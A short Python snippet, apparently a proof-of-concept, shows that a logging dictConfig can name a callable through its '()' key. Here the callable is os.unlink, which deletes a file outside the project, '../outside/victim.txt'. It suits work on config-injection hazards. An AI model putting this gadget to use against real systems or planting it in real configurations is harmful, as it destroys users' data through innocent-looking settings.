# A logging configuration names the function to call, as data.
# damage: deleted
import logging.config

logging.config.dictConfig(
    {"version": 1, "filters": {"tidy": {"()": "os.unlink", "path": "../outside/victim.txt"}}}
)
